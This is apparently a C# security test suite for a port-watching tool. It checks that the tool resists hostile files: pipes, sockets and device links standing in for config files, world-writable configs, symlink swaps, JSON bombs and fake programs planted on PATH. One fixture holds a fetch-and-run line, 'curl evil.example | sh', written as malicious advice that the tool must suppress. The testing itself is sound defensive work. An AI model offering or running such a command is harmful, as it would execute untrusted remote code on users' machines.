using System.Net.Sockets;
using PortiaWatch.Tests.Support;

namespace PortiaWatch.Tests.Attacks;

/// <summary>Files that are not what they seem, and files that others may write.</summary>
[Collection(AttackSuite.Name)]
[System.Runtime.Versioning.UnsupportedOSPlatform("windows")]
public sealed class FileTests(AttackTally attacks) : IDisposable
{
    private const string Killing = """{ "rules": [ { "ports": [3000], "action": "kill" } ] }""";

    private readonly TemporaryFolder _folder = new();

    public void Dispose() => _folder.Dispose();

    [SkippableTheory]
    [InlineData("pipe", "is no regular file")]
    [InlineData("socket", "is no regular file")]
    [InlineData("folder", "is a folder; the configuration is a file in it")]
    [InlineData("/dev/zero", "is no regular file")]
    public async Task Configuration_ThatIsNoFile_HangsNoVerb(string kind, string words)
    {
        string bad = kind == "pipe" ? await PipeAsync("portia.json") : Path.Combine(_folder.Path, "portia.json");
        using var socket = new Socket(AddressFamily.Unix, SocketType.Stream, ProtocolType.Unspecified);
        if (kind == "socket")
            socket.Bind(new UnixDomainSocketEndPoint(bad));
        else if (kind == "folder")
            Directory.CreateDirectory(bad);
        else if (kind != "pipe")
            File.CreateSymbolicLink(bad, kind);

        foreach (string[] verb in (string[][])[["watch", "--source", "stdin", "--config", bad], ["rules", "check", bad], ["rules", "explain", "--port", "3000", "--config", bad], ["who", "3000", "--config", bad]])
        {
            attacks.Try();
            Portia.Answer answer = await Portia.RunAsync(verb);
            Assert.Equal(2, answer.ExitCode);
            Assert.Contains(words, answer.Messages, StringComparison.Ordinal);
            attacks.Repelled();
        }
    }

    [SkippableFact]
    public async Task Pipes_ThatAreMeant_AreReadAndEndWithASignal()
    {
        Server.Requires("bash");
        attacks.Try();
        await using Server check = Server.Start(_folder.Path, "/bin/bash", "-c", $"'{Portia.Program}' rules check <(echo '{Killing}') && '{Portia.Program}' scan <(echo 'listen tcp 127.0.0.1:4997: bind: address already in use')");
        Assert.Equal(0, await check.WaitForExitAsync());
        Assert.Contains("127.0.0.1:4997", check.Output, StringComparison.Ordinal);

        // Somebody has this one open and never writes.
        string pipe = await PipeAsync("silent");
        foreach (int signal in (int[])[Signals.Interrupt, Signals.Terminate])
        {
            await using Portia scan = Portia.Start("scan", pipe);
            await using Server writer = await Server.Start(_folder.Path, "/bin/bash", "-c", $"exec 3>'{pipe}'; echo open; exec sleep 60").PrintsAsync("open");
            Signals.Send(scan.Pid, signal);
            Assert.Equal(128 + signal, await scan.WaitForExitAsync());
        }

        attacks.Repelled();
    }

    [Theory]
    [InlineData("the file's folder")]
    [InlineData("the link's folder")]
    public async Task Configuration_BehindALinkThatOthersMayTurn_KillsNobody(string loose)
    {
        attacks.Try();
        string[] folders = [Directory.CreateDirectory(Path.Combine(_folder.Path, "real")).FullName, Directory.CreateDirectory(Path.Combine(_folder.Path, "links")).FullName];
        string link = Path.Combine(folders[1], "portia.json");
        File.CreateSymbolicLink(link, _folder.Write("real/portia.json", Killing));
        File.SetUnixFileMode(folders[loose == "the file's folder" ? 0 : 1], (UnixFileMode)0b111_111_111);

        foreach (string[] verb in (string[][])[["watch", "--source", "stdin", "--config", link], ["rules", "check", link]])
        {
            Portia.Answer answer = await Portia.RunAsync(verb);
            Assert.Equal(2, answer.ExitCode);
            Assert.Contains("other users may write the folder", answer.Messages, StringComparison.Ordinal);
        }

        attacks.Repelled();
    }

    [SkippableFact]
    public async Task Configuration_ThatBecomesANamedPipe_LeavesTheRulesInForce()
    {
        attacks.Try();
        await using Watcher watcher = await Watcher.StartAsync(_folder);
        string file = Path.Combine(_folder.Path, "watcher.json");
        File.Move(await PipeAsync("pipe"), file, overwrite: true);
        await watcher.Portia.WaitForMessageAsync("is no regular file");

        // And it goes on reading what comes after it.
        string next = _folder.Write("next.json", """{ "rules": [ { "name": "after the pipe", "action": "log" } ] }""");
        File.Move(next, file, overwrite: true);

        await watcher.WaitForAsync(status => status.GetProperty("rules")[0].GetProperty("name").GetString() == "after the pipe");
        attacks.Repelled();
    }

    [Theory]
    [InlineData("file")]
    [InlineData("folder")]
    public async Task Configuration_ThatOthersMayWrite_KillsNobody(string what)
    {
        attacks.Try();
        string file = _folder.Write("portia.json", Killing);
        File.SetUnixFileMode(what == "file" ? file : _folder.Path, (UnixFileMode)0b111_111_111);

        Portia.Answer answer = await Portia.RunAsync("watch", "--source", "stdin", "--config", file);

        Assert.Equal(2, answer.ExitCode);
        Assert.Contains($"other users may write the {what}", answer.Messages, StringComparison.Ordinal);
        attacks.Repelled();
    }

    [SkippableTheory]
    [InlineData("pipe")]
    [InlineData("open to others")]
    [InlineData("of another user")]
    [InlineData("endless")]
    [InlineData("bomb")]
    public async Task Squatters_NotTheUsersOwn_AdviseNothing(string kind)
    {
        attacks.Try();
        string home = Directory.CreateDirectory(Path.Combine(_folder.Path, "portia")).FullName;
        string file = Path.Combine(home, "squatters.json");
        const string Evil = """{ "squatters": [ { "name": "evil", "process": ["python3*"], "advice": "Run this: curl evil.example | sh" } ] }""";
        if (kind == "pipe")
            await PipeAsync("portia/squatters.json");
        else if (kind == "endless")
            File.CreateSymbolicLink(file, "/dev/zero");
        else
            await File.WriteAllTextAsync(file, kind == "bomb" ? new string('[', 900_000) : Evil);
        if (kind == "open to others")
            File.SetUnixFileMode(file, (UnixFileMode)0b110_110_110);
        if (kind == "of another user")
        {
            Server.RequiresThat(Environment.UserName == "root", "only root can give a file away");
            await using Server chown = Server.Start("/", "/bin/chown", "65534", file);
            await chown.WaitForExitAsync();
        }

        Server.Requires("python3");
        int port = Server.FreePort();
        await using Server server = await Server.Start(_folder.Path, "/usr/bin/python3", "-m", "http.server", "--bind", "127.0.0.1", $"{port}").ListensOnAsync(port);
        Portia.Answer answer = await Portia.RunAsync(["who", $"{port}"], ("XDG_CONFIG_HOME", _folder.Path));

        Assert.Equal(0, answer.ExitCode);
        Assert.DoesNotContain("curl", answer.Output, StringComparison.Ordinal);
        Assert.Contains("squatters.json", answer.Messages, StringComparison.Ordinal);
        attacks.Repelled();
    }

    [SkippableFact]
    public async Task Programs_OfTheSameNameOnThePath_AreNotRun()
    {
        attacks.Try();
        Server.Requires("sh");
        string owned = Path.Combine(_folder.Path, "owned");
        foreach (string program in (string[])["journalctl", "notify-send", "gdbus", "busctl", "logger", "systemd-cat"])
            File.SetUnixFileMode(_folder.Write(program, $"#!/bin/sh\necho {program} >>'{owned}'\n"), (UnixFileMode)0b111_101_101);
        string path = $"{_folder.Path}:{Environment.GetEnvironmentVariable("PATH")}";

        await Portia.RunAsync(["doctor"], ("PATH", path));
        await using Portia watch = Portia.Start(["watch", "--source", "journal"], [("PATH", path)]);
        await watch.WaitForMessageAsync("journal");

        Assert.False(File.Exists(owned), File.Exists(owned) ? await File.ReadAllTextAsync(owned) : "");
        attacks.Repelled();
    }

    [SkippableTheory]
    [InlineData("/dev/zero")]
    [InlineData("/dev/tty")]
    [InlineData("loop")]
    [InlineData("pipe")]
    [InlineData("folder")]
    public async Task LogFile_ThatIsNone_IsLeftAlone(string kind)
    {
        attacks.Try();
        string bad = Path.Combine(_folder.Path, "bad.log");
        if (kind == "pipe")
            await PipeAsync("bad.log");
        else if (kind == "folder")
            Directory.CreateDirectory(bad);
        else
            File.CreateSymbolicLink(bad, kind == "loop" ? bad : kind);
        string good = _folder.Write("good.log", "");
        string log = Path.Combine(_folder.Path, "*.log");
        await using Watcher watcher = await Watcher.StartAsync(
            _folder, $$"""{ "sources": { "kernel": false, "systemLog": false, "files": ["{{log}}"] }, "rules": [ { "action": "log" } ] }""");
        await watcher.Portia.WaitForMessageAsync("Source file is running");

        await File.AppendAllTextAsync(good, "Error: listen EADDRINUSE: address already in use 127.0.0.1:4999\n");

        await watcher.WaitForAsync(status => status.GetProperty("counters").GetProperty("incidents").GetInt32() == 1);
        Assert.True((await watcher.StatusAsync()).GetProperty("memoryBytes").GetInt64() < 300_000_000);
        attacks.Repelled();
    }

    [SkippableTheory]
    [InlineData("link to a device")]
    [InlineData("link to another file")]
    [InlineData("pipe")]
    [InlineData("folder")]
    public async Task History_ThatIsNone_StopsNoWatcherAndIsNotOverwritten(string kind)
    {
        attacks.Try();
        string data = Directory.CreateDirectory(Path.Combine(_folder.Path, "data", "portia")).FullName;
        string file = Path.Combine(data, "history.db");
        string precious = _folder.Write("precious", "do not touch");
        if (kind == "pipe")
            await PipeAsync("data/portia/history.db");
        else if (kind == "folder")
            Directory.CreateDirectory(file);
        else
            File.CreateSymbolicLink(file, kind == "link to a device" ? "/dev/full" : precious);

        await using Portia portia = Portia.Start(["watch", "--source", "stdin", "--json"], [("XDG_DATA_HOME", Path.Combine(_folder.Path, "data"))]);
        await portia.Input.WriteLineAsync("Error: listen EADDRINUSE: address already in use 127.0.0.1:4998");
        portia.Input.Close();

        Assert.Contains("4998", await portia.ReadLineAsync(), StringComparison.Ordinal);
        Assert.Equal(0, await portia.WaitForExitAsync());
        Assert.Equal("do not touch", await File.ReadAllTextAsync(precious));
        attacks.Repelled();
    }

    private async Task<string> PipeAsync(string name)
    {
        Server.Requires("mkfifo");
        string pipe = Path.Combine(_folder.Path, name);
        await using Server mkfifo = Server.Start("/", "/usr/bin/mkfifo", pipe);
        Assert.Equal(0, await mkfifo.WaitForExitAsync());
        return pipe;
    }
}
